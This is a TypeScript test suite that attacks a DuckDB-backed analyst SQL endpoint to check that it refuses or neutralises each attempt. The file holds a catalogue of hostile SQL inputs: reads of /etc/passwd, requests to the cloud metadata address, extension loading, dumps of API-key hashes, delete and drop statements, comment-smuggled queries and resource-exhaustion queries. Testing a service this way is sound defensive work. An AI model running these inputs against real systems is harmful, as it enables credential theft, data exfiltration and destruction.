/**
 * Analyst SQL as an attacker holding an analyst key would try it: every class of escape the
 * security review named (files and network, replacement scans, settings, ATTACH, INSTALL, LOAD,
 * SET, PRAGMA, CALL, EXPORT, COPY, writes, the secrets tables, several statements, smuggling
 * through comments and unusual line breaks), each also wrapped in EXPLAIN and EXPLAIN ANALYZE,
 * typed or through the `explain` option, and denial of service by time and by size.
 *
 * Each attempt must be refused (4xx) or harmless: no answer holds a secret (a key hash, a
 * session, a server path, a setting), no file appears anywhere under the server's folders, the
 * warehouse is as it was, and the next refresh of the inbox loads nothing planted.
 */
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runRefresh } from '../../src/pipeline/index.ts';
import { apiFixture } from './fixture.ts';

let f: Awaited<ReturnType<typeof apiFixture>>;
let inbox: string;
let secrets: string[];
const LIMIT_MS = 1500;
const BYTE_CAP = 2 * 1024 * 1024;

beforeAll(async () => {
  // Hundreds of attempts in a minute: the per-caller rate limit has tests of its own (sql-limits.test.ts).
  f = await apiFixture({ sqlTimeoutMs: LIMIT_MS, sqlByteCap: BYTE_CAP, sqlLimits: { perMinute: 100_000 } });
  inbox = join(f.dir, 'inbox');
  mkdirSync(inbox, { recursive: true });
  writeFileSync(join(f.api.uploadDir, 'x.csv'), 'a,b\n1,2\n');
  const hashes = await f.wh.all<{ h: string }>('select key_hash as h from api_tokens');
  secrets = [...hashes.map((r) => r.h), f.dir, f.api.uploadDir, analystDir(), homedir(), tmpdir() + '/'];
});
afterAll(() => f.close());

/** Where the analysts' copies live (a folder of the server's own; a name no file elsewhere may take). */
const analystDir = () => `${f.wh.path}.analyst`;

/** Every file under a folder, with its size and time: what must not change. */
function files(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, e.name);
      // The analysts' copies come and go with publications; their folder is checked by name below.
      if (p === analystDir()) continue;
      if (e.isDirectory()) walk(p);
      else out.push(`${relative(f.dir, p)}`);
    }
  };
  walk(dir);
  return out.sort();
}

/** The warehouse's relations, key and audit counts, and settings. */
async function warehouseState() {
  return f.wh.all(
    `select table_name as name from duckdb_tables() where table_name <> 'sql_audit'
     union all select view_name from duckdb_views() where not internal
     union all select 'keys=' || count(*) from api_tokens
     union all select 'threads=' || current_setting('threads')
     union all select 'external=' || current_setting('enable_external_access')
     order by all`,
  );
}

const target = () => join(f.api.uploadDir, 'leak.csv');
const planted = () => join(inbox, 'planted.csv');

/** The statements an attacker would try, by class. Functions, so paths are the fixture's. */
const ATTACKS: Record<string, (() => string)[]> = {
  'file functions': [
    () => "select * from read_csv('/etc/passwd')",
    () => "select * from read_csv_auto('/etc/hostname')",
    () => "select * from read_text('/etc/hostname')",
    () => "select * from read_blob('/etc/hostname')",
    () => "select * from read_json('/etc/hostname')",
    () => "select * from read_ndjson_auto('/etc/hostname')",
    () => `select * from read_parquet('${f.wh.path}')`,
    () => "select * from parquet_metadata('/x.parquet')",
    () => "select * from glob('/*')",
    () => `select * from sniff_csv('${join(f.api.uploadDir, 'x.csv')}')`,
    () => `select (select count(*) from read_csv_auto('${join(f.api.uploadDir, 'x.csv')}')) as n`,
  ],
  'network functions': [
    () => "select * from read_parquet('https://example.com/x.parquet')",
    () => "select * from read_csv('http://169.254.169.254/latest/meta-data/')",
    () => "select * from read_json('s3://bucket/key.json')",
  ],
  'replacement scans': [
    () => "from '/etc/passwd'",
    () => `select * from '${join(f.api.uploadDir, 'x.csv')}'`,
    () => "select * from 'https://example.com/x.csv'",
    () => `select * from '${f.wh.path}'`,
  ],
  settings: [
    () => 'select * from duckdb_settings()',
    () => "select current_setting('temp_directory')",
    () => "select current_setting('home_directory')",
    () => 'select * from pg_settings',
    () => 'select * from pg_catalog.pg_settings',
    () => 'select * from duckdb_databases()',
    () => 'select * from duckdb_extensions()',
    () => 'select * from duckdb_temporary_files()',
    () => 'select * from duckdb_secrets()',
    () => "select getenv('HOME')",
    () => "select (select value from duckdb_settings() where name = 'temp_directory') as v",
    () => "with s as (select * from duckdb_settings()) select value from s where name = 'extension_directory'",
  ],
  ATTACH: [() => `attach '${f.wh.path}' as w`, () => "attach ':memory:' as m", () => `attach '${join(f.api.uploadDir, 'evil.duckdb')}' as e`, () => 'detach analyst_copy', () => 'use system'],
  INSTALL: [() => 'install httpfs', () => 'force install httpfs', () => "install spatial from 'http://example.com'"],
  LOAD: [() => 'load httpfs', () => `load '${join(f.api.uploadDir, 'evil.duckdb_extension')}'`],
  SET: [
    () => 'set threads = 1',
    () => 'set enable_external_access = true',
    () => "set allowed_directories = ['/']",
    () => 'reset memory_limit',
    () => "set global temp_directory = '/tmp'",
    () => 'set variable x = 1',
  ],
  PRAGMA: [() => 'pragma version', () => 'pragma database_list', () => "pragma memory_limit = '1TB'", () => 'pragma enable_profiling'],
  CALL: [() => 'call pragma_version()', () => 'call duckdb_settings()', () => "call pragma_table_info('fct_invoices')"],
  EXPORT: [() => `export database '${join(f.api.uploadDir, 'dump')}'`, () => `import database '${f.dir}'`],
  COPY: [
    () => `copy fct_invoices to '${target()}'`,
    () => `copy (select 'INV-9', 'C0001', date '2026-01-01', date '2026-02-01', 9999999.99, 'MXN') to '${planted()}'`,
    () => `copy fct_invoices from '${join(f.api.uploadDir, 'x.csv')}'`,
    () => `copy (select * from api_tokens) to '${target()}' (format parquet)`,
  ],
  writes: [
    () => 'create table evil as select 1 as x',
    () => 'create temp table evil as select 1 as x',
    () => 'create macro evil() as 1',
    () => "insert into builds (build_id) values (999)",
    () => 'update fct_invoices set outstanding = 0',
    () => 'delete from fct_invoices',
    () => 'drop table fct_invoices',
    () => 'alter table fct_invoices add column x int',
    () => 'checkpoint',
    () => 'vacuum',
    () => 'begin transaction',
    () => 'with x as (delete from fct_invoices returning *) select * from x',
  ],
  'secrets tables': [
    () => 'select * from api_tokens',
    () => 'select * from sql_audit',
    () => 'select * from users',
    () => 'select * from sessions',
    () => 'select * from raw_invoices',
    () => "select * from query('select * from api_tokens')",
    () => "select * from query_table('api_tokens')",
    () => `select * from "${f.wh.path.split('/').pop()!.replace(/\.duckdb$/, '')}".main.api_tokens`,
    () => "select * from json_execute_serialized_sql(json_serialize_sql('select * from api_tokens'))",
  ],
  'several statements': [
    () => 'select 1; select * from api_tokens',
    () => `select 1; copy fct_invoices to '${target()}'`,
    () => 'select 1;\nattach ":memory:" as m',
  ],
  smuggling: [
    () => '/* /* */ select 1 -- */ select token_id, role, key_hash from api_tokens',
    () => `/* /* */ select 1 -- */ copy fct_invoices to '${target()}'`,
    () => 'select 1 --\rselect key_hash from api_tokens',
    () => `select 1 --\r copy fct_invoices to '${target()}'`,
    () => 'select 1 --\u2028select key_hash from api_tokens',
    () => 'select 1 --\u2029select key_hash from api_tokens',
    () => 'select 1 --\u0085select key_hash from api_tokens',
    () => '\u00a0copy fct_invoices to \'' + target() + "'",
    () => '\u000bselect * from api_tokens',
    () => '\fselect key_hash from api_tokens',
    () => '\t\n  /* a */ -- b\r\n select key_hash from api_tokens',
    () => '/*/* nested */ select key_hash from api_tokens */ select 1',
  ],
};

const WRAPS: [string, (s: string) => { sql: string; explain?: 'plan' | 'analyze' }][] = [
  ['plain', (s) => ({ sql: s })],
  ['EXPLAIN', (s) => ({ sql: `explain ${s}` })],
  ['EXPLAIN ANALYZE', (s) => ({ sql: `EXPLAIN ANALYZE ${s}` })],
  ['explain option', (s) => ({ sql: s, explain: 'analyze' })],
];

const attempts = Object.entries(ATTACKS).flatMap(([kind, list]) =>
  list.flatMap((make, i) => WRAPS.map(([wrap, shape]) => ({ name: `${kind} #${i + 1} (${wrap})`, body: () => shape(make()) }))),
);

describe('POST /api/sql under attack', () => {
  test('the suite is as large as the review asked (at least 120 attempts)', () => {
    expect(attempts.length).toBeGreaterThanOrEqual(120);
  });

  test('every attempt is refused or harmless: no secret in any answer, no file written, nothing changed', async () => {
    const before = await warehouseState();
    const filesBefore = files(f.dir);
    const outcomes: { name: string; status: number; leaked: string | null }[] = [];
    for (const a of attempts) {
      const body = a.body();
      const r = await f.post('/api/sql', body, f.keys.analyst);
      const text = await r.text();
      // A path the attacker typed may come back in DuckDB's message; one they did not type is a leak.
      const leaked = secrets.find((s) => text.includes(s) && !body.sql.includes(s)) ?? null;
      outcomes.push({ name: a.name, status: r.status, leaked });
    }
    // Refused (4xx), or ran and said nothing secret.
    expect(outcomes.filter((o) => o.status >= 500 || o.leaked)).toEqual([]);
    // Only selects of harmless constants ran: every attempt that names a file, a write or a secret was refused.
    const ran = outcomes.filter((o) => o.status === 200).map((o) => o.name);
    expect(ran.every((n) => n.startsWith('smuggling'))).toBe(true);
    expect(files(f.dir)).toEqual(filesBefore);
    expect(readdirSync(analystDir()).every((n) => /^publication-\d+\.duckdb(\.wal)?$/.test(n))).toBe(true);
    expect(await warehouseState()).toEqual(before);
  }, 120_000);

  test('nothing planted reaches the next refresh of the inbox', async () => {
    const r = await runRefresh(f.wh, { inbox: [inbox], onlyIfNew: true, trigger: 'test', dbPath: f.wh.path });
    expect(r.ingest?.loaded ?? []).toEqual([]);
    expect(await f.wh.scalar('select count(*) from fct_invoices where invoice_id = $1', ['INV-9'])).toBe('0');
  }, 120_000);

  test('the smuggled query of the review runs where no key exists', async () => {
    const r = await f.post('/api/sql', { sql: '/* /* */ select 1 -- */ select token_id, role, key_hash from api_tokens' }, f.keys.analyst);
    // DuckDB ends the comment at the first */, so the keys' query is what runs: on a database that has no keys.
    expect(r.status).toBe(400);
    const text = await r.text();
    expect(text).toMatch(/api_tokens does not exist/);
    expect(secrets.filter((s) => text.includes(s))).toEqual([]);
  });
});

describe('denial of service', () => {
  test('a query past the time limit is stopped, and the server answers at once afterwards', async () => {
    for (const sql of [
      'select count(*) from range(10000000000000) t(i) where i % 7 = 3',
      'select count(*) from range(100000) a, range(100000) b where a.range + b.range = 17',
    ]) {
      const t0 = performance.now();
      const r = await f.post('/api/sql', { sql }, f.keys.analyst);
      expect({ sql, status: r.status }).toEqual({ sql, status: 408 });
      expect(performance.now() - t0).toBeLessThan(LIMIT_MS + 4000);
    }
    expect((await f.post('/api/sql', { sql: 'select 42 as x' }, f.keys.analyst)).status).toBe(200);
  }, 60_000);

  test('a huge answer is cut by size inside the limit, and says so in the body and in every download', async () => {
    const sql = "select repeat('x', 100000) as s from range(1000)";
    const t0 = performance.now();
    const r = await f.post('/api/sql', { sql }, f.keys.analyst);
    expect(r.status).toBe(200);
    const text = await r.text();
    expect(text.length).toBeLessThan(BYTE_CAP + 10_000);
    const body = JSON.parse(text);
    expect(body.truncated).toBe(true);
    expect(body.note).toMatch(/recortado|truncated/);
    expect(performance.now() - t0).toBeLessThan(LIMIT_MS + 4000);
    for (const format of ['csv', 'xlsx', 'parquet', 'arrow']) {
      const d = await f.app.request(`/api/sql?format=${format}`, {
        method: 'POST',
        body: JSON.stringify({ sql }),
        headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${f.keys.analyst}` },
      });
      // Writing the file counts against the time limit too: a slow format answers 408 rather than late.
      expect({ format, status: d.status }).toEqual({ format, status: d.status === 408 ? 408 : 200 });
      expect((await d.arrayBuffer()).byteLength).toBeLessThan(BYTE_CAP + 100_000);
    }
  }, 60_000);

  test('one value larger than the size cap is not sent', async () => {
    const r = await f.post('/api/sql', { sql: "select repeat('x', 50000000) as s" }, f.keys.analyst);
    expect([200, 400, 408]).toContain(r.status);
    expect((await r.text()).length).toBeLessThan(BYTE_CAP);
  }, 60_000);

  test('memory is bounded: a query that needs more than the analysts\' share fails alone', async () => {
    for (const sql of ["select list(repeat('x', 1000)) from range(100000000)", "select length(string_agg(x::varchar, ',')) from range(1000000000) t(x)"]) {
      const r = await f.post('/api/sql', { sql }, f.keys.analyst);
      expect({ sql, status: r.status }).toEqual({ sql, status: r.status === 408 ? 408 : 400 });
      if (r.status === 400) expect((await r.json()).detail).toMatch(/Out of Memory/i);
    }
    expect((await f.post('/api/sql', { sql: 'select 1 as x' }, f.keys.analyst)).status).toBe(200);
  }, 60_000);
});
